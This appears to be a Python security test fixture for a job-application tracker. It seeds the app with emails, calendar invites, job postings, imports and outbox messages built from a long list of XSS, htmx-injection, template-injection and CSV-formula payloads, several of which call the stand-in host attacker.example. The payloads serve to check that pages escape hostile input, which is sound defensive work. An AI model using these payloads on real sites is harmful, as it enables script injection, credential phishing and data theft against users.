"""A search in which every name, letter and file is Mallory's: what the pages must show as words and as nothing else.

    python -m tests.web.hostile_search     with SAYYES_HOME: notes it there, and prints the numbers of what it noted, as JSON

Every snippet that became an element or an attribute of a page would carry `data-mallory`; every one that ran would set `hacked`.
"""

from __future__ import annotations

import json
import tempfile
from datetime import datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime
from html import escape
from pathlib import Path

from tests.usecases.mail import mbox

ZONE = "America/New_York"
SUM = "42049"  # what a template that is worked out would write for 6007 * 7
SNIPPETS = (
    # scripts
    "<script data-mallory>hacked=1</script>",
    "<script data-mallory src=http://attacker.example/x.js></script>",
    "<SCRIPT data-mallory>hacked=1</SCRIPT >",
    "<scr<script>ipt data-mallory>hacked=1</scr</script>ipt>",
    "<script data-mallory type=module>hacked=1</script>",
    "<script/data-mallory>hacked=1</script>",
    "<noscript><p title=\"</noscript><img data-mallory src=x onerror=hacked=1>\">",
    "<script data-mallory type=speculationrules>{\"prefetch\":[]}</script>",
    # pictures, sound and other things that load
    "<img data-mallory src=x onerror=hacked=1>",
    "<img data-mallory src=x onerror=\"alert(1)\">",
    "<img/data-mallory/src=x/onerror=hacked=1>",
    "<img data-mallory srcset=\"http://attacker.example/a.png 2x\">",
    "<picture data-mallory><source srcset=http://attacker.example/b.webp></picture>",
    "<image data-mallory src=x onerror=hacked=1>",
    "<video data-mallory src=x onerror=hacked=1></video>",
    "<video data-mallory poster=http://attacker.example/p.png></video>",
    "<audio data-mallory src=x onerror=hacked=1></audio>",
    "<input data-mallory type=image src=x onerror=hacked=1>",
    "<object data-mallory data=http://attacker.example/o></object>",
    "<object data-mallory data=\"data:text/html,<script>hacked=1</script>\">",
    "<embed data-mallory src=http://attacker.example/e>",
    "<embed data-mallory src=\"data:image/svg+xml,<svg onload=hacked=1>\">",
    "<iframe data-mallory src=http://attacker.example/></iframe>",
    "<iframe data-mallory srcdoc=\"<script>parent.hacked=1</script>\"></iframe>",
    "<iframe data-mallory src=\"javascript:parent.hacked=1\"></iframe>",
    "<frameset data-mallory onload=hacked=1><frame src=http://attacker.example/>",
    "<portal data-mallory src=http://attacker.example/></portal>",
    "<track data-mallory src=http://attacker.example/t onerror=hacked=1>",
    # drawings and formulas
    "<svg data-mallory onload=hacked=1>",
    "<svg data-mallory/onload=hacked=1>",
    "<svg data-mallory><script>hacked=1</script></svg>",
    "<svg data-mallory><animate onbegin=hacked=1 attributeName=x dur=1s>",
    "<svg data-mallory><a xlink:href=\"javascript:hacked=1\"><text>press</text></a></svg>",
    "<svg data-mallory><use href=\"http://attacker.example/u.svg#x\"></svg>",
    "<svg data-mallory><foreignObject><iframe onload=hacked=1></foreignObject></svg>",
    "<svg data-mallory><style>*{fill:url(http://attacker.example/f)}</style>",
    "<svg data-mallory><set attributeName=href to=javascript:hacked=1>",
    "<svg></p><style><a id=\"</style><img data-mallory src=1 onerror=hacked=1>\">",
    "<math data-mallory href=\"javascript:hacked=1\">press</math>",
    "<math><mtext><table><mglyph><style><img data-mallory src onerror=hacked=1>",
    "<math><annotation-xml encoding=text/html><img data-mallory src onerror=hacked=1>",
    # what runs by itself
    "<body data-mallory onload=hacked=1>",
    "<body data-mallory onpageshow=hacked=1>",
    "<input data-mallory autofocus onfocus=hacked=1>",
    "<select data-mallory autofocus onfocus=hacked=1><option>a</select>",
    "<textarea data-mallory autofocus onfocus=hacked=1>",
    "<button data-mallory autofocus onfocus=hacked=1>press</button>",
    "<details data-mallory open ontoggle=hacked=1><summary>a</summary></details>",
    "<marquee data-mallory onstart=hacked=1>a</marquee>",
    "<div data-mallory popover onbeforetoggle=hacked=1>a</div>",
    "<p data-mallory style=animation:x onanimationstart=hacked=1>a</p>",
    "<div data-mallory tabindex=1 onfocus=hacked=1 id=main>a</div>",
    "<dialog data-mallory open onclose=hacked=1>Your session ended. Sign in.</dialog>",
    # links
    "<a data-mallory href=javascript:hacked=1>press</a>",
    "<a data-mallory href=\"JaVaScRiPt:hacked=1\">press</a>",
    "<a data-mallory href=\"java&#09;script:hacked=1\">press</a>",
    "<a data-mallory href=\"&#x6a;avascript:hacked=1\">press</a>",
    "<a data-mallory href=\"data:text/html,<script>hacked=1</script>\">press</a>",
    "<a data-mallory href=\"vbscript:hacked\">press</a>",
    "<a data-mallory href=x ping=http://attacker.example/ping>press</a>",
    "javascript:hacked=1//",
    "[press](javascript:hacked=1)",
    "javascript:/*--></title></style></textarea></script><svg data-mallory onload=hacked=1>",
    # forms, and what changes where the page stands
    "<form data-mallory action=http://attacker.example/><button>Save</button></form>",
    "</form><form data-mallory action=http://attacker.example/><input name=password>",
    "<button data-mallory form=save formaction=http://attacker.example/>Save</button>",
    "<input data-mallory type=hidden name=csrfmiddlewaretoken value=mine>",
    "<base data-mallory href=http://attacker.example/>",
    "<meta data-mallory http-equiv=refresh content=\"0;url=http://attacker.example/\">",
    "<meta data-mallory http-equiv=Content-Security-Policy content=\"default-src *\">",
    "<link data-mallory rel=stylesheet href=http://attacker.example/x.css>",
    "<link data-mallory rel=prefetch href=http://attacker.example/>",
    "<link data-mallory rel=manifest href=http://attacker.example/m.json>",
    # looks
    "<style data-mallory>@import 'http://attacker.example/x.css';</style>",
    "<style data-mallory>body{display:none}</style>",
    "<p data-mallory style=\"background:url(http://attacker.example/b)\">a</p>",
    "<p data-mallory style=\"position:fixed;inset:0;background:#fff\">Sign in again</p>",
    "<table data-mallory background=http://attacker.example/t><td>a</table>",
    # names that take the place of the page's own
    "<img data-mallory name=querySelectorAll><form id=document>",
    "<a data-mallory id=htmx><a id=htmx name=config href=data:,hacked>",
    "<form data-mallory id=body><input name=attributes></form>",
    "<input data-mallory name=getElementById id=location>",
    "__proto__",
    "constructor",
    # out of an attribute, a text area, a title, a comment
    "\" data-mallory onmouseover=hacked=1 x=\"",
    "' data-mallory onmouseover=hacked=1 x='",
    "\"><img data-mallory src=x onerror=hacked=1>",
    "'><img data-mallory src=x onerror=hacked=1>",
    "` data-mallory onclick=hacked=1 `",
    " data-mallory autofocus onfocus=hacked=1 ",
    "</textarea><img data-mallory src=x onerror=hacked=1>",
    "</title><script data-mallory>hacked=1</script>",
    "</option></select><img data-mallory src=x onerror=hacked=1>",
    "</style><script data-mallory>hacked=1</script>",
    "</script><script data-mallory>hacked=1</script>",
    "--><img data-mallory src=x onerror=hacked=1><!--",
    "]]><img data-mallory src=x onerror=hacked=1>",
    "<!--[if gte IE 4]><script data-mallory>hacked=1</script><![endif]-->",
    "\\\"><img data-mallory src=x onerror=hacked=1>",
    # letters that turn into quotes and brackets somewhere on the way
    "\uff1cscript data-mallory\uff1ehacked=1\uff1c/script\uff1e",
    "\u2039img data-mallory src=x onerror=hacked=1\u203a",
    "\u02baonmouseover=hacked=1 data-mallory \u02ba",
    "\u2028<img data-mallory src=x onerror=hacked=1>",
    "\u202e>1=dekcah=rorreno x=crs yrollam-atad gmi<",
    "<img\u00a0data-mallory src=x onerror=hacked=1>",
    "+ADw-script data-mallory+AD4-hacked=1+ADw-/script+AD4-",
    "&lt;img data-mallory src=x onerror=hacked=1&gt;",
    "&amp;lt;img data-mallory src=x onerror=hacked=1&amp;gt;",
    "&#60;img data-mallory src=x onerror=hacked=1&#62;",
    "%3Cimg data-mallory src=x onerror=hacked=1%3E",
    "\\u003cimg data-mallory src=x onerror=hacked=1\\u003e",
    "<ſcript data-mallory>hacked=1</ſcript>",
    # what htmx and templates would act on
    "<p data-mallory hx-get=http://attacker.example/ hx-trigger=load>a</p>",
    "<p data-mallory data-hx-get=/pipeline/ data-hx-trigger=load>a</p>",
    "<p data-mallory hx-on::load=hacked=1>a</p>",
    "<p data-mallory hx-on:htmx:load=\"hacked=1\">a</p>",
    "<p data-mallory hx-post=/pipeline/undo hx-trigger=load hx-vals='js:{a:hacked=1}'>a</p>",
    "<p data-mallory hx-trigger=\"load[hacked=1]\" hx-get=/>a</p>",
    "<div data-mallory hx-swap-oob=true id=main>a</div>",
    "<div data-mallory hx-ext=http://attacker.example/ hx-disinherit=*>a</div>",
    "<p data-mallory data-undo data-process=1>a</p>",
    "{{ 6007|add:36042 }}{{6007*7}}",
    "{% widthratio 6007 1 7 %}{% debug %}{% include '/etc/passwd' %}",
    "${6007*7}#{6007*7}<%= 6007*7 %>[[6007*7]]",
    "{{constructor.constructor('hacked=1')()}}",
    "%(6007)s {0.__class__.__init__.__globals__} %n",
    "=HYPERLINK(\"http://attacker.example/\",\"press\")",
)  # fmt: skip
SENDERS = (
    "<script data-mallory>hacked=1</script>",
    '"><img data-mallory src=x onerror=hacked=1>',
    "' data-mallory onclick=hacked=1 '",
)


def main() -> None:
    """Note everything in the data folder of the environment."""
    from django.utils import timezone

    from sayyes.server.first_run import open_home

    home = open_home()
    with timezone.override(ZONE):
        print(json.dumps(note(home, timezone.localtime())))


def note(home: Path, now: datetime) -> dict[str, int]:
    """Everything of Mallory's; the numbers of what a page shows."""
    from sayyes.usecases import calendars, deciding, invitations, preferences, taking

    preferences.tell(told={"name": SNIPPETS[8], "candidate.value_now": 80_000}, now=now)
    calendars.add_file(name=f"{SNIPPETS[8]}.ics", data=diary(now), now=now, zone=ZONE)
    kept = invitations.take_in(name=f"{SNIPPETS[8]}.eml", data=letter(now, 1), now=now).number
    deciding.answer(number=kept, now=now)
    numbers = {"invitation": kept}
    others = {"letter": ("x.eml", letter(now, 2)), "calendar": ("x.ics", meeting(now)), "posting": ("x.html", posting())}
    for called, (name, data) in others.items():
        intake = taking.hand_in(name=f"{SNIPPETS[86]}{name}", data=data, now=now).intake
        assert intake is not None
        numbers[called] = intake
    imported(now)
    return {**numbers, "process": pipeline_of_hers(now), "mail": mailbox(now), "sent": outbox_of_hers(home, now)}


def all_of_them() -> str:
    """Every snippet, one to a line."""
    return "\n".join(SNIPPETS)


def letter(now: datetime, number: int) -> bytes:
    """An invitation as HTML, with every snippet as its author wrote it and once more so that a reader shows it as words."""
    talk = now + timedelta(days=5)
    hostile = SENDERS[number % len(SENDERS)]
    head = EmailMessage()
    head["From"] = f'"{hostile.replace(chr(34), "")}" <mallory@attacker.example>'
    head["To"] = "Alice Moreau <alice@postbox.example>"
    head["Date"] = format_datetime(now)
    head["Message-ID"] = f"<{number}@attacker.example>"
    head["Subject"] = f"Interview: Analyst {SNIPPETS[8]} at {hostile} Ltd"
    shown = "<br>".join(escape(each) for each in SNIPPETS)
    head.set_content(
        f"<p>Dear Alice,</p><p>We would like to invite you to an interview for the position of Analyst {escape(SNIPPETS[8])} at "
        f"{escape(hostile)} Ltd on {talk:%A}, {talk.day} {talk:%B %Y} at 3:00 pm Eastern Time. The pay is $90,000 per year. "
        f"The interview will be held by phone with {escape(SNIPPETS[86])}.</p><p>{shown}</p>"
        f"<p>Kind regards,<br>{escape(hostile)}<br>{escape(SNIPPETS[9])}<br>Mallory {escape(SNIPPETS[28])} Ltd</p>"
        f"{all_of_them()}",
        subtype="html",
    )
    return bytes(head)


def _content(text: str) -> str:
    """A text as a calendar writes it."""
    return text.replace("\\", "\\\\").replace(";", "\\;").replace(",", "\\,").replace("\n", "\\n").replace("\u2028", " ")


def _calendar(*lines: str) -> bytes:
    return "\r\n".join(
        ("BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//mallory//EN", *lines, "END:VEVENT", "END:VCALENDAR", "")
    ).encode()


def meeting(now: datetime) -> bytes:
    """An interview as a calendar's invitation."""
    return _calendar(
        "METHOD:REQUEST", "BEGIN:VEVENT", "UID:mallory-1", f"DTSTAMP:{now:%Y%m%dT%H%M%S}",
        f"DTSTART;TZID=America/New_York:{now + timedelta(days=6):%Y%m%dT140000}", "DURATION:PT45M",
        f"SUMMARY:Interview: Analyst {_content(SNIPPETS[8])} at {_content(SNIPPETS[0])} Ltd",
        f"LOCATION:{_content(SNIPPETS[86])}", f"DESCRIPTION:{_content(all_of_them())}",
        f"ORGANIZER;CN=\"{SNIPPETS[8]}\":mailto:mallory@attacker.example",
        "ATTENDEE;CN=Alice;RSVP=TRUE:mailto:alice@postbox.example", "URL:javascript:hacked=1",
    )  # fmt: skip


def diary(now: datetime) -> bytes:
    """A calendar of one's own in which somebody put an entry."""
    return _calendar(
        "BEGIN:VEVENT", "UID:mallory-2", f"SUMMARY:{_content(all_of_them())}", f"DTSTART:{now:%Y%m%dT090000Z}", "DURATION:PT1H"
    )


def posting() -> bytes:
    """A posting as a web page with its record."""
    record = {
        "@context": "https://schema.org", "@type": "JobPosting", "title": f"Analyst {SNIPPETS[8]}", "url": "javascript:hacked=1",
        "hiringOrganization": {"@type": "Organization", "name": f"{SNIPPETS[86]} Ltd", "sameAs": "javascript:hacked=1"},
        "description": all_of_them(), "jobLocation": {"@type": "Place", "address": SNIPPETS[28]}, "datePosted": "2026-03-01",
        "validThrough": SNIPPETS[8], "employmentType": SNIPPETS[8],
    }  # fmt: skip
    told = json.dumps(record).replace("</", "<\\/")
    shown = "".join(f"<p>{escape(each)}</p>" for each in SNIPPETS)
    return (
        f'<!doctype html><html><head><title>Analyst</title><script type="application/ld+json">{told}</script></head>'
        f"<body><h1>Analyst</h1><p>We are looking for an analyst. Responsibilities and requirements:</p>{shown}{all_of_them()}"
        "</body></html>"
    ).encode()


def imported(now: datetime) -> None:
    """A tracker and an address book."""
    from sayyes.usecases import importing

    def quoted(text: str) -> str:
        return '"' + text.replace('"', '""') + '"'

    told = (map(quoted, (f"{each} Inc", each, "Applied", each, each)) for each in SNIPPETS[:30])
    rows = ["Company,Role,Status,Contact,Notes", *(",".join(row) for row in told)]
    card = _content(SNIPPETS[8])
    about = f"FN:{card}\r\nN:{card};;;;\r\nORG:{card}\r\nTITLE:{card}\r\nEMAIL:m@attacker.example"
    book = f"BEGIN:VCARD\r\nVERSION:3.0\r\n{about}\r\nEND:VCARD\r\n"
    for name, text in ((f"{SNIPPETS[8]}.csv", "\n".join(rows) + "\n"), (f"{SNIPPETS[8]}.vcf", book)):
        seen = importing.preview(name=name, data=text.encode())
        assert importing.carry_out(previewed=seen, now=now) is not None, seen


def pipeline_of_hers(now: datetime) -> int:
    """Every snippet as a company and as a role, typed by hand, and a process all of whose parts are hostile; its number."""
    from sayyes.usecases import notes, offers, processes, rounds
    from sayyes.usecases.processes import Particulars

    def noted(company: str, role: str, stage: str) -> int:
        about = Particulars(company=company, role=role, place=role, pay=role)
        number = processes.add(particulars=about, stage=stage, on=now.date(), now=now).process
        assert number is not None
        return number

    for place, each in enumerate(SNIPPETS):
        noted(each, SNIPPETS[-place], ("saved", "applied", "interviewing", "offered", "declined")[place % 5])
    whole = noted(f"{SNIPPETS[86]} GmbH", SNIPPETS[8], "interviewing")
    for days, each in enumerate(SNIPPETS[84:90], 1):
        asker = rounds.Asker(name=each, title=SNIPPETS[8], email="m@attacker.example")
        talk = rounds.Plan(starts_at=now + timedelta(days=days), zone=ZONE, place=each, interviewers=(asker,))
        rounds.plan(process=whole, version=None, planned=talk, now=now)
        notes.attach(process=whole, version=None, name=f"{each}.html", data=all_of_them().encode(), now=now)
    notes.write(process=whole, version=None, text=all_of_them(), now=now)
    terms = offers.Terms(pay=SNIPPETS[8], value=90_000.0, currency="USD", conditions=all_of_them(), notes=all_of_them())
    offers.receive(process=noted(SNIPPETS[86], SNIPPETS[86], "interviewing"), version=None, terms=terms, now=now)
    return whole


def mailbox(now: datetime) -> int:
    """A mailbox with a letter for each sender and some snippets, which go to the review list; one letter's number."""
    from sayyes.usecases import inbox_review
    from sayyes.usecases.inbox_reading import read_source

    unsure = (
        "Thank you for your interest in the Analyst position. We would like to invite you to an interview. "
        "Unfortunately, we have decided to move forward with other candidates."
    )
    letters = []
    for number, each in enumerate(SNIPPETS, 100):
        plain = EmailMessage()
        plain["From"] = f'"{each.replace(chr(34), "").replace(chr(92), "").replace(chr(0x2028), "")}" <m@attacker.example>'
        plain["To"] = "Alice Moreau <alice@postbox.example>"
        plain["Date"] = format_datetime(now - timedelta(days=1))
        plain["Message-ID"] = f"<{number}@attacker.example>"
        plain["Subject"] = f"Your application {each.replace(chr(0x2028), '')}"
        plain.set_content(f"{unsure}\n\n{each}\n")
        letters.append(bytes(plain))
    with tempfile.TemporaryDirectory() as folder:
        box = Path(folder) / f"{SNIPPETS[8]}.mbox"
        box.write_bytes(mbox(*letters, letter(now, 3)))
        read_source(path=box, now=now)
    waiting = inbox_review.to_review()
    assert len(waiting) > len(SNIPPETS) // 2, len(waiting)
    inbox_review.correct_letters(numbers=[waiting[0].number], said="rejection", now=now)
    return waiting[1].number


def outbox_of_hers(home: Path, now: datetime) -> int:
    """A letter that waits to be sent; its number."""
    from sayyes.usecases import outbox, sending_account

    name = SNIPPETS[8]
    told = sending_account.Told("127.0.0.1", 9, "none", name, "alice@postbox.example", name, "correct horse battery")
    sending_account.keep_account(told=told, folder=home, now=now)
    data = f"Message-ID: <5@postbox.example>\r\nSubject: Re: {name}\r\n\r\n{all_of_them()}\r\n".encode()
    written = outbox.Written(
        None,
        SNIPPETS[86],
        "yes",
        "",
        "alice@postbox.example",
        ("m@attacker.example",),
        f"Re: {name}",
        "<5@postbox.example>",
        data,
    )
    return outbox.enqueue(written=written, press="once", now=now)


if __name__ == "__main__":
    main()
